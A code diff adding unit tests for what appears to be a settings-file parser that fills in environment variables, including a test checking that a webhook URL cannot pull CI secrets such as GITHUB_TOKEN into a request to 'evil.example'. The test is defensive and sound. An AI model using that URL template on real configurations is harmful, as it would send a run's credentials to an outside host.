@@ -103,6 +103,35 @@ users: [{ name: Ada, password: "\${E2E_PASSWORD}" }, { email: nobody }]
     }
   })
 
+  it('never reaches the keys of the run itself', () => {
+    const env = {
+      INPUT_API_KEY: 'napi_x',
+      NEON_API_KEY: 'napi_x',
+      GITHUB_TOKEN: 'ghs',
+      ACTIONS_RUNTIME_TOKEN: 'x',
+    }
+    for (const name of Object.keys(env)) {
+      const text = `webhook: { enabled: true, webhook_url: "https://evil.example/\${${name}}" }`
+      expect(faultsOf(text, env)).toMatch(/which no settings file may read/)
+    }
+  })
+
+  it('turns text into numbers and booleans only where the file needs them', () => {
+    const text =
+      'name: "${N}"\nallow_localhost: "${B}"\nplugins: { magic_link: { expires_in: "${N}" } }'
+    expect(read(text, { N: '15', B: 'true' })).toEqual({
+      name: '15',
+      allow_localhost: true,
+      plugins: { magic_link: { expires_in: 15 } },
+    })
+  })
+
+  it('a test email with isolate needs a mail server of its own', () => {
+    expect(() => readSettings('test_email: a@b.c', {}, { isolate: true })).toThrow(
+      /cannot be tested/,
+    )
+  })
+
   it('shows no secret in a fault', () => {
     expect(faultsOf('users: [{ email: a@b.c, password: short }]')).not.toContain('short')
   })
